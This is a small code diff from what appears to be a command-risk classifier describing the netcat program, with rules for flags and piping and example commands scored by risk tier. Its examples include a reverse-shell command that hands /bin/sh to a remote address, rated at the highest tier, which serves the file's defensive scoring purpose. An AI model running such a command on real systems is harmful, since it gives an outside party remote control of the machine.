@@ -15,9 +15,7 @@ export const netcat: Program = {
     on('', { flags: ['-z'] }, reads('It only tries whether a port is open.', 'http.get')),
     on('', { piped: true }, unseen(disturbs(''), 'What it sends to another host cannot be seen.')),
   ],
-  otherwise: changesElsewhere('It opens a connection to another place.', {
-    kind: 'http.post',
-  }),
+  otherwise: changesElsewhere('It opens a connection to another place.', { kind: 'http.post' }),
   examples: [
     { run: 'nc -e /bin/sh 203.0.113.7 99', tier: 4, points: 50 },
     { run: 'nc -zv localhost 5432', tier: 0, points: 0 },
